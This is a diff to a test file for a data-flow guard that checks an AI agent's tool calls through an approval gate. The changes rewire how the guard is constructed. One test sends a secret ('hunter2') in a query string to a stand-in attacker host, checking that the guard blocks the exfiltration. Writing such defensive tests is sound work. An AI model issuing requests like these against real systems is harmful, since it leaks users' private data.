@@ -1,7 +1,7 @@
 // The flow policy on the host: labels from results, checked before every call, through the approval gate.
 import { describe, expect, it } from 'vitest';
 import type { OwnServerKind } from '../../src/config/server-env.js';
-import { createApprovalGate, withApproval, type AskUser } from '../../src/mcp/approval-gate.js';
+import { createApprovalGate, type AskUser } from '../../src/policy/approval-gate.js';
 import type { ApprovalDecision, ToolCaller, ToolInfo, ToolResult } from '../../src/mcp/types.js';
 import { givenPlaces } from '../../src/policy/destinations.js';
 import { cautionFor, FlowGuard, type FlowPolicy } from '../../src/policy/flow-guard.js';
@@ -35,7 +35,7 @@ const signal = new AbortController().signal;
 function guardFor(question: string, { yes = false, ask, policy = POLICY }: { yes?: boolean; ask?: AskUser; policy?: FlowPolicy } = {}) {
   const servers = new Servers();
   const gate = createApprovalGate({ policy: { require: [], allow: [], allowAll: yes, ownServers: new Set(OURS.keys()) }, ...(ask ? { ask } : {}) });
-  return { servers, guard: new FlowGuard(withApproval(servers, gate), policy, question) };
+  return { servers, guard: new FlowGuard(servers, gate, policy, question) };
 }
 
 /** What a plan does: asks the guard, then calls when approved. */
@@ -133,7 +133,7 @@ describe('FlowGuard', () => {
         return { server: 'docs', contents: [{ uri, text: 'x' }] };
       },
     };
-    const guard = new FlowGuard(servers, POLICY, 'Summarise https://news.example/today');
+    const guard = new FlowGuard(servers, undefined, POLICY, 'Summarise https://news.example/today');
     await guard.readResource!('https://attacker.test/?d=before');
     expect(guard.seen()).toEqual({ untrusted: true, private: true });
     await expect(guard.readResource!('https://attacker.test/?d=hunter2')).rejects.toThrow(/data-flow policy refused it/);
